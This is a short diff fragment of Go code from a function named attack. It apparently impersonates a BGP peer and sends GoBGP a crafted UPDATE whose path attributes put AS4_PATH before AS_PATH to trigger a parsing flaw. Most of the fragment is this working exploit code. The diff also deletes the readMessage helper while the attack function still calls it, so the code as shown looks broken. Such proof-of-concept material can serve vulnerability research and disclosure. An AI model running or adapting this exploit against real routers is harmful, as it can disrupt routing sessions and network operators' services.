@@ -162,19 +162,11 @@ func attack(l net.Listener) {
 	open = append(binary.BigEndian.AppendUint16(open, 90), 203, 0, 113, 200, 0)
 	message(1, open)
 	message(4, nil)
-	readMessage(conn) // its OPEN
-	readMessage(conn) // its KEEPALIVE: the session is up for it now or soon
+	readMessage(conn)                                                               // its OPEN
+	readMessage(conn)                                                               // its KEEPALIVE: the session is up for it now or soon
 	update := binary.BigEndian.AppendUint16([]byte{0, 0}, uint16(len(attack41643))) // nothing is withdrawn
 	message(2, append(append(update, attack41643...), 24, 192, 0, 2))
 	io.Copy(io.Discard, conn)
-}
-
-func readMessage(conn net.Conn) {
-	head := make([]byte, 19)
-	if _, err := io.ReadFull(conn, head); err != nil {
-		return
-	}
-	io.CopyN(io.Discard, conn, int64(binary.BigEndian.Uint16(head[16:]))-19)
 }
 
 // attack41643 are path attributes with AS4_PATH before AS_PATH, which is the last: GoBGP takes the first out of the list and then writes
